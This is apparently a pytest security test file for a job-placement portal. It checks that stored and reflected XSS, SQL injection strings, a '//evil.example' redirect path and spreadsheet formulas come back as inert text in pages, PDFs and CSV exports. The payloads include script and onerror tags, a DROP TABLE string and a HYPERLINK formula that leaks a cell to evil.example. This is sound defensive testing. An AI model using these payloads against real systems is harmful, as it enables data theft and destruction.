"""Injection: script in every free-text field comes back as text in pages, PDFs and CSV; SQL is just text.

Stored: each field gets its own payload, typed through the real forms, then every page that shows
it is fetched by every party who sees it. Each page must contain the payload as text (so the field
is really shown) and no markup from it: no inline script, no event-handler attribute, no <img src=x>.
The agreement PDF, rendered by WeasyPrint from HTML, must show the payloads literally (markup
interpreted there would drop the text, or make WeasyPrint fetch `x`). The CSV export neutralises
cells that a spreadsheet would run as a formula.
"""
import csv
import io
import re
from datetime import date

from bs4 import BeautifulSoup
from pypdf import PdfReader
from sqlalchemy import func, select, text

from portal.extensions import db
from portal.models import Agreement, JobSeeker, LearningGoal, Organisation, Placement, Slot, User
from portal.models.base import utcnow
from portal.organisations.numbers import format_organisation_number, luhn_check_digit
from tests.conftest import DEMO_PASSWORD, confirm_registration, login, slot_form


def xss(tag):
    """A payload that is visible as text, and would run as script in two ways if it were markup."""
    return f'<script>alert("{tag}")</script>"><img src=x onerror=alert("{tag}")>'


SQL = "'; DROP TABLE users; --"


def number(prefix):
    return format_organisation_number(prefix + str(luhn_check_digit(prefix)))


def assert_inert(html, where):
    """No markup came from user input: no inline script, no event handler, no injected image."""
    soup = BeautifulSoup(html, "html.parser")
    for script in soup.find_all("script"):
        assert script.get("src") and not (script.string or "").strip(), f"inline script on {where}"
    handler = soup.find(attrs={re.compile("^on", re.I): True})
    assert handler is None, f"event handler on {where}: {handler}"
    assert soup.find("img", attrs={"src": "x"}) is None, f"injected <img> on {where}"
    return soup


def shown(soup):
    """Everything the page shows as text, plus attribute values (form fields keep what was typed)."""
    values = [value for tag in soup.find_all(True) for value in tag.attrs.values() if isinstance(value, str)]
    return soup.get_text(" ") + " " + " ".join(values)


def read_revision(client, slot_id):
    """The slot's revision as the union's review page gives it: the statement answers what was read."""
    return BeautifulSoup(client.get(f"/reviews/{slot_id}").get_data(as_text=True), "html.parser").find(
        "input", attrs={"name": "revision"})["value"]


def look(pages, seen):
    """Fetch each page: every page must be inert; note which payloads it shows as text."""
    for where, client, url in pages:
        response = client.get(url)
        assert response.status_code == 200, f"{where} {url}: {response.status_code}"
        text = shown(assert_inert(response.get_data(as_text=True), f"{where} {url}"))
        seen.update(tag for tag in re.findall(r'alert\("([\w-]+)"\)', text) if xss(tag) in text)


def pdf_text(data):
    """The PDF's text without white space (a line may wrap anywhere in a long payload)."""
    return "".join("".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages).split())


def test_stored_script_in_every_free_text_field_is_shown_as_text(app, demo, make_placement, new_agreement):
    anonymous = login(app, None)
    coordinator = login(app, "coordinator@example.com")
    union = login(app, "union@example.com")

    # Registration: the organisation and its contact person (who becomes an account).
    response = anonymous.post("/organisations/register", data={
        "organisation_number": number("559911223"), "name": xss("org-name"),
        "workplace_address": xss("org-address"), "sector": "retail", "has_collective_agreement": "yes",
        "contact_person": xss("contact"), "email": "xss@employer.example",
        "password": "long-enough-password", "password_again": "long-enough-password", "accept_terms": "y"})
    assert response.status_code == 200 and "Check your e-mail" in response.get_data(as_text=True)
    assert_inert(response.get_data(as_text=True), "registration answer")
    confirm_registration(app, app.test_client(), "xss@employer.example")
    with app.app_context():
        organisation = db.session.scalar(select(Organisation).where(Organisation.name == xss("org-name")))
        organisation.guide_completed_at, organisation.guide_version = utcnow(), "test"
        db.session.commit()
        organisation_id = organisation.id
    assert coordinator.post(f"/organisations/{organisation_id}/verify").status_code == 302
    employer = login(app, "xss@employer.example", password="long-enough-password")

    # The slot form: every text field.
    slot_fields = ["title", "occupation", "tasks", "schedule", "workplace_address", "supervisor_name",
                   "supervisor_role", "other_languages", "accessibility_notes"]
    response = employer.post("/slots/new", data=slot_form(
        **{name: xss(f"slot-{name}") for name in slot_fields},
        learning_goals=f"{xss('goal-1')}\n{xss('goal-2')}"))
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    with app.app_context():
        slot_id = db.session.scalar(select(Slot.id).where(Slot.title == xss("slot-title")))

    # The union objects with a reason, the employer answers, the coordinator approves with a reason
    # (the union has no veto: the coordinator decides, with the statement in front of them).
    assert union.post(f"/reviews/{slot_id}", data={"decision": "object", "reason": xss("objection"),
                                                    "revision": read_revision(union, slot_id)}).status_code == 302
    assert employer.post(f"/slots/{slot_id}/reply", data={"response": xss("reply")}).status_code == 302
    seen = set()
    look([("union", union, f"/slots/{slot_id}"), ("employer", employer, f"/slots/{slot_id}")], seen)
    decision_page = BeautifulSoup(coordinator.get(f"/consultations/{slot_id}").get_data(as_text=True), "html.parser")
    read_state = {name: decision_page.find("input", attrs={"name": f"decide-{name}"})["value"]
                  for name in ("revision", "status")}
    assert coordinator.post(f"/consultations/{slot_id}", data={
        "decide-outcome": "approve", "decide-reason": xss("statement"),
        **{f"decide-{name}": value for name, value in read_state.items()}}).status_code == 302

    # The job-seeker record, then a match: the agreement is drafted with all of it.
    record_fields = ["full_name", "education", "experience", "desired_occupation", "desired_development",
                     "adjustment_needs"]
    response = coordinator.post("/jobseekers/new", data={
        **{name: xss(f"record-{name}") for name in record_fields}, "gender": "other", "birth_year": "1990",
        "languages-0-language": xss("l"), "languages-0-level": "good"})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    with app.app_context():
        jobseeker_id = db.session.scalar(select(JobSeeker.id).where(JobSeeker.full_name == xss("record-full_name")))
    assert coordinator.post(f"/jobseekers/{jobseeker_id}/match/{slot_id}").status_code == 302
    with app.app_context():
        reference = db.session.scalar(select(Agreement.reference).join(Placement).where(Placement.slot_id == slot_id))

    # End feedback on a placement of the demo employer: the report and the job-seeker's answers, submitted.
    placement_id = make_placement("Amina Hassan")
    demo_employer = login(app, "employer@example.com")
    jobseeker = login(app, "jobseeker@example.com")
    with app.app_context():
        goals = db.session.scalars(select(LearningGoal.id).join(Placement, Placement.slot_id == LearningGoal.slot_id)
                                   .where(Placement.id == placement_id)).all()
    response = demo_employer.post(f"/placements/{placement_id}/report", data={
        "attendance_percent": "90", "tasks_done": xss("tasks-done"), "went_well": xss("went-well"),
        "could_develop": xss("could-develop"), "employment_offered": "none", "would_take_again": "yes",
        **{f"goal_{goal}": "3" for goal in goals}, "submit": "Submit"})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    response = jobseeker.post(f"/placements/{placement_id}/feedback", data={
        "supervision_rating": "4", "learning_rating": "4", "treatment_rating": "5", "purpose_met": "yes",
        "job_outcome": "none", "learned": xss("learned"), "free_text": xss("free-text"), "submit": "Submit"})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]

    # Ending a placement early with a note; declining an agreement with a reason; a new version with a note.
    running = make_placement("Karim Haddad", days_ago_ended=-30)
    assert demo_employer.post(f"/placements/{running}/end", data={
        "ended_on": date.today().isoformat(), "reason": "other", "note": xss("end-note")}).status_code == 302
    declined = new_agreement()
    assert jobseeker.post(f"/agreements/{declined}/decline", data={"reason": xss("decline"), "version": "1"}
                          ).status_code == 302
    look([("jobseeker", jobseeker, f"/agreements/{declined}"), ("coordinator", coordinator, f"/agreements/{declined}")],
         seen)
    assert coordinator.post(f"/agreements/{declined}/versions", data={"language": "en", "note": xss("version-note")}
                            ).status_code == 302

    # The guide: a question nobody answers, kept for staff.
    assert employer.post("/guide/ask", data={"question": xss("question")}).status_code == 200

    look([
        ("employer", employer, "/dashboard/"), ("employer", employer, "/slots/"),
        ("employer", employer, f"/slots/{slot_id}"), ("employer", employer, f"/slots/{slot_id}/edit"),
        ("employer", employer, "/agreements/"), ("employer", employer, f"/agreements/{reference}"),
        ("employer", employer, "/guide/"),
        ("union", union, "/dashboard/"), ("union", union, "/reviews/"), ("union", union, f"/slots/{slot_id}"),
        ("union", union, f"/agreements/{reference}"), ("union", union, "/stats/"),
        ("coordinator", coordinator, "/dashboard/"), ("coordinator", coordinator, "/organisations/"),
        ("coordinator", coordinator, "/jobseekers/"), ("coordinator", coordinator, f"/jobseekers/{jobseeker_id}"),
        ("coordinator", coordinator, f"/jobseekers/{jobseeker_id}/edit"),
        ("coordinator", coordinator, f"/slots/{slot_id}"), ("coordinator", coordinator, f"/agreements/{reference}"),
        ("coordinator", coordinator, f"/agreements/{reference}/audit"),
        ("coordinator", coordinator, f"/agreements/{declined}/audit"),
        ("coordinator", coordinator, f"/placements/{placement_id}/report"),
        ("coordinator", coordinator, f"/placements/{placement_id}/feedback"),
        ("coordinator", coordinator, "/guide/unanswered"), ("coordinator", coordinator, "/stats/"),
        ("jobseeker", jobseeker, f"/agreements/{declined}"),
    ], seen)
    # Every field is shown somewhere (so every field was checked); the end-early note and a new
    # version's note are kept but shown on no page.
    expected = {"org-name", "org-address", "contact", *[f"slot-{name}" for name in slot_fields], "goal-1", "goal-2",
                "objection", "reply", "statement", *[f"record-{name}" for name in record_fields], "l", "tasks-done",
                "went-well", "could-develop", "learned", "free-text", "decline", "question"}
    assert not expected - seen, f"never shown as text: {sorted(expected - seen)}"

    # The PDF shows the same text literally: nothing in it was taken for markup.
    response = coordinator.get(f"/agreements/{reference}/agreement.pdf")
    assert response.mimetype == "application/pdf"
    in_pdf = pdf_text(response.data)
    for tag in ["org-name", "contact", "slot-title", "slot-workplace_address", "slot-occupation", "slot-tasks", "slot-schedule",
                "slot-supervisor_name", "slot-supervisor_role", "goal-1", "goal-2", "record-full_name", "statement"]:
        assert "".join(xss(tag).split()) in in_pdf, f"{tag} is not shown literally in the PDF: {in_pdf}"


def test_reflected_script_comes_back_escaped(app, demo):
    anonymous = login(app, None)
    coordinator = login(app, "coordinator@example.com")
    employer = login(app, "employer@example.com")
    payload = xss("reflected")
    cases = [
        ("login form", anonymous.post("/login", data={"email": payload, "password": payload})),
        ("registration with mistakes", anonymous.post("/organisations/register", data={
            "organisation_number": payload, "name": payload, "workplace_address": payload, "contact_person": payload,
            "email": payload})),
        ("slot form with mistakes", employer.post("/slots/new", data=slot_form(title=payload, places=payload,
                                                                               start_date=payload))),
        ("guide question too long", employer.post("/guide/ask", data={"question": payload * 10})),
        ("statistics filters", coordinator.get("/stats/", query_string={
            "period_from": payload, "period_to": payload, "sector": payload, "organisation": payload,
            "placement_type": payload})),
        ("language switch keeps the query", coordinator.get("/stats/", query_string={"x": payload})),
        ("unknown guide topic", anonymous.get("/guide/topics/" + payload.replace("/", ""))),
        ("login ?next=", anonymous.get("/login", query_string={"next": payload})),
    ]
    for where, response in cases:
        assert response.status_code < 500, where
        assert_inert(response.get_data(as_text=True), where)


def test_the_language_switch_stays_on_this_site(app):
    """A path starting with // must not turn the language link into a link to another host."""
    client = app.test_client()
    response = client.get("/", environ_overrides={"PATH_INFO": "//evil.example/"})
    soup = BeautifulSoup(response.get_data(as_text=True), "html.parser")
    href = soup.select_one(".language-switch a")["href"]
    assert href.startswith("/") and not href.startswith("//"), href


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, demo, make_slot, make_placement):
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    coordinator = login(app, "coordinator@example.com")
    for index, name in enumerate(formulas):
        digits = f"55990{index:02d}44"
        with app.app_context():
            db.session.add(Organisation(
                organisation_number=digits + str(luhn_check_digit(digits)), name=name, workplace_address="Gatan 1",
                sector="retail", has_collective_agreement=True, contact_person="Fia Formel", verified_at=utcnow()))
            db.session.commit()
        slot_id = make_slot(organisation_number=digits + str(luhn_check_digit(digits)))
        make_placement("Karim Haddad", slot_id=slot_id)
    response = coordinator.get("/stats/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    for name in formulas:
        assert "'" + name in cells, f"{name!r} is not in the export, neutralised"
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous


def test_sql_looking_input_is_stored_and_shown_as_text(app, demo):
    anonymous = login(app, None)
    coordinator = login(app, "coordinator@example.com")
    response = anonymous.post("/organisations/register", data={
        "organisation_number": number("559955667"), "name": SQL, "workplace_address": SQL, "sector": "retail",
        "has_collective_agreement": "no", "contact_person": SQL, "email": "sql@employer.example",
        "password": "long-enough-password", "password_again": "long-enough-password", "accept_terms": "y"})
    assert response.status_code == 200 and "Check your e-mail" in response.get_data(as_text=True)
    response = coordinator.post("/jobseekers/new", data={
        "full_name": SQL, "gender": "man", "birth_year": "1980", "desired_occupation": SQL, "education": SQL})
    assert response.status_code == 302
    assert login(app, None).post("/login", data={"email": SQL, "password": SQL}).status_code == 200
    login(app, None).post("/guide/ask", data={"question": SQL})
    assert coordinator.get("/stats/", query_string={"organisation": "1 OR 1=1", "sector": SQL}).status_code == 200

    with app.app_context():
        assert db.session.scalar(select(func.count(User.id))) >= 5, "the users table is still there, and full"
        assert db.session.scalar(select(Organisation.contact_person).where(Organisation.name == SQL)) == SQL
        assert db.session.scalar(select(JobSeeker.education).where(JobSeeker.full_name == SQL)) == SQL
        assert db.session.execute(text("SELECT count(*) FROM users")).scalar() >= 5
    for url in ("/organisations/", "/jobseekers/"):
        assert SQL in BeautifulSoup(coordinator.get(url).get_data(as_text=True), "html.parser").get_text()


def test_a_lazy_string_holding_typed_words_is_printed_as_text(app):
    """The rule behind the fix in portal/i18n.py: Flask-Babel's lazy strings claim to be HTML."""
    from flask import render_template_string
    from flask_babel import lazy_gettext

    message = "Wants to work as %(wanted)s"  # a variable, so that the catalogue extraction skips it
    with app.test_request_context("/?lang=en"):
        html = render_template_string("<p>{{ reason }}</p>", reason=lazy_gettext(message, wanted=xss("lazy")))
    assert "<script>" not in html and "&lt;script&gt;" in html
